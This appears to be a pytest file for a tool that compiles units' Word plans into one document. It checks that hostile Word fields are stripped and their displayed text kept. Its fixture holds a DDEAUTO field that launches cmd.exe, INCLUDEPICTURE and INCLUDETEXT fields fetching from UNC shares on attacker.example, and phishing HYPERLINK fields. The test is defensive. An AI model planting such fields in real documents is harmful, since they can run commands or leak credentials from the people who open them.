"""Word fields in a unit's file do not travel into the compiled document: no picture fetched from a share,
no link elsewhere, no program started when the office opens it; the words the unit's file showed stay."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
from docx.oxml import parse_xml

from scheduler.inputs.config import load_campaign

from .conftest import run_qm
from .test_units import at, config, place

__all__ = ["config"]  # the fixture, shared with the units' other tests

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def mark(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instruction(code: str) -> str:
    return run(f'<w:instrText xml:space="preserve"> {code} </w:instrText>')


def text(words: str) -> str:
    return run(f"<w:t>{words}</w:t>")


def fielded_plan() -> bytes:
    """A plan with each kind of field: simple, complex with and without a result, nested, spanning paragraphs,
    and one in the page header."""
    document = docx.Document()
    document.add_paragraph("本单位质量月活动方案")
    paragraphs = [
        f"""<w:fldSimple w:instr='INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\x.png" \\d'>{text("图一")}</w:fldSimple>""",
        text("详见")
        + mark("begin")
        + instruction('HYPERLINK "https://attacker.example/phish"')
        + mark("separate")
        + text("国家标准原文")
        + mark("end")
        + text("。"),
        mark("begin") + instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + mark("end") + text("活动安排如下"),
        mark("begin")
        + instruction("IF ")
        + mark("begin")
        + instruction('INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\a.docx"')
        + mark("separate")
        + text("内层结果")
        + mark("end")
        + instruction(' = "x" "是" "否"')
        + mark("separate")
        + text("外层结果")
        + mark("end"),
        mark("begin") + instruction('HYPERLINK "https://attacker.example/toc"') + mark("separate") + text("目录第一行"),
        text("目录第二行") + mark("end"),
    ]
    body = document.element.body
    for n, inner in enumerate(paragraphs, start=1):
        body.insert(n, parse_xml(f"<w:p {W}>{inner}</w:p>"))
    header = document.sections[0].header.paragraphs[0]._p
    fetched = instruction('INCLUDEPICTURE "https://attacker.example/h.png"')
    for element in parse_xml(f"<w:p {W}>{mark('begin')}{fetched}{mark('end')}</w:p>"):
        header.append(element)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_fields_are_left_out_and_the_text_they_showed_kept(config: Path) -> None:
    campaign = load_campaign(config)
    data = fielded_plan()
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert b"attacker.example" in parts.read("word/header1.xml") and b"DDEAUTO" in parts.read("word/document.xml")
    place(campaign, "爱辉区", "方案", "方案.docx", data, at(5, 9))
    out = config.parent / "汇总.docx"
    collected = run_qm("units", "-c", config, "--collect", "--kind", "方案", "-o", out)
    assert "Traceback" not in collected.stderr and out.exists(), collected.stderr
    with zipfile.ZipFile(out) as parts:
        xml = {name: parts.read(name).decode("utf-8") for name in parts.namelist() if name.endswith(".xml")}
    for name, part in xml.items():  # the body, and headers, footers and notes if any were copied
        assert not re.search(r"instrText|fldSimple|fldChar|attacker\.example|DDEAUTO|INCLUDEPICTURE", part), (name, part)
    shown = [p.text for p in docx.Document(str(out)).paragraphs]
    start = shown.index("本单位质量月活动方案")
    assert shown[start : start + 7] == [
        "本单位质量月活动方案",
        "图一",
        "详见国家标准原文。",
        "活动安排如下",
        "外层结果",
        "目录第一行",
        "目录第二行",
    ]
